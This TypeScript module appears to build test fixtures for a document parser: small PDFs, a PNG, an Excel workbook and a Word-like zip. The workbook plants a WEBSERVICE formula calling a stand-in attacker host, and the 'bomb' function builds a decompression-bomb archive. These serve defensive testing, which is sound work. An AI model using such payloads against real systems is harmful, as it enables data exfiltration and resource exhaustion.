import { Workbook } from 'exceljs';
import { ZipFile } from 'yazl';

/** What begins as a PDF; enough to be told by its content. */
export const pdf = (text: string) => Buffer.from(`%PDF-1.4\n% ${text}\n`);

/** A picture of one pixel. */
export const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

/** A page with one line of text. */
export function textPdf(text: string): Buffer {
  const content = `BT /F1 18 Tf 20 100 Td (${text}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let file = '%PDF-1.4\n';
  const offsets = objects.map((object, index) => {
    const at = file.length;
    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  return Buffer.from(`${file}xref\n0 6\n0000000000 65535 f \n${table}trailer << /Size 6 /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF`);
}

/** One row with a formula that would call out. */
export async function workbook(): Promise<Buffer> {
  const book = new Workbook();
  const sheet = book.addWorksheet('名单');
  sheet.addRow(['张三', { formula: 'WEBSERVICE("http://evil.example")', result: 3 }]);
  return Buffer.from(await book.xlsx.writeBuffer());
}

/** Names of a Word document round many zeros. */
export async function bomb(): Promise<Buffer> {
  const archive = new ZipFile();
  archive.addBuffer(Buffer.from('<Types/>'), '[Content_Types].xml');
  archive.addBuffer(Buffer.alloc(20_000_000), 'word/document.xml');
  archive.end();
  const parts: Buffer[] = [];
  for await (const part of archive.outputStream) parts.push(part as Buffer);
  return Buffer.concat(parts);
}
